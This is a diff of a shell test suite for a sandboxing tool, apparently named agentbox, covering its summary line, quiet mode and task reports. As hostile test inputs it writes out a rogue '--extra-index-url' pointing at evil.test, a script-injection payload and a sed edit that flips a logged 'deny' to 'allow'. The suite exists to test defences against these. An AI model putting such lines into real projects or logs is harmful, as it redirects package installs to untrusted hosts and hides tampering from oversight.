@@ -20,13 +20,18 @@ box online sh -c 'curl -s -m 2 http://refused.test/; echo "left-pad==1.0" >requi
 	echo "--extra-index-url https://evil.test/\"<script>alert(1)</script>" >>requirements.txt
 	mkdir -p "$1"; echo "x==1" >"$1/requirements.txt"; echo all: >Makefile; exit 3' sh "$nasty"
 is "the task" "$status" 3
+has "one line at its end" "$err" "agentbox: 2 packages added in "
+has "which says where more is" "$err" "; agentbox report $(basename "$(latest_task)")"
+run "$AGENTBOX" exec -q -p online -- sh -c 'curl -s -m 2 http://refused.test/'
+is "none with -q" "$err" ""
 
+first=$(find "$HOME/.local/state/agentbox/tasks" -mindepth 1 -maxdepth 1 -printf '%f\n' | sort | head -n 1)
 for format in text json markdown html sarif junit; do
-	run "$AGENTBOX" report --format "$format"
+	run "$AGENTBOX" report --format "$format" "$first"
 	is "$format: status" "$status" 0
 	cp "$scratch/out" "report.$format"
 	lacks "$format: no escape sequence" "$out" $'\033'
-	run "$AGENTBOX" report --format "$format"
+	run "$AGENTBOX" report --format "$format" "$first"
 	is "$format: the same again" "$out" "$(<"report.$format")"
 done
 text=$(<report.text)
@@ -77,10 +82,10 @@ assert not stack, stack
 END
 
 # --- a log that is not intact says so ---
-log=$(latest_task)/events.jsonl
+log=$HOME/.local/state/agentbox/tasks/$first/events.jsonl
 sed -i '0,/"verdict":"deny"/s//"verdict":"allow"/' "$log"
 for format in text markdown html; do
-	run "$AGENTBOX" report --format "$format"
+	run "$AGENTBOX" report --format "$format" "$first"
 	has "$format: an altered log" "${out,,}" "not intact"
 done
 finish
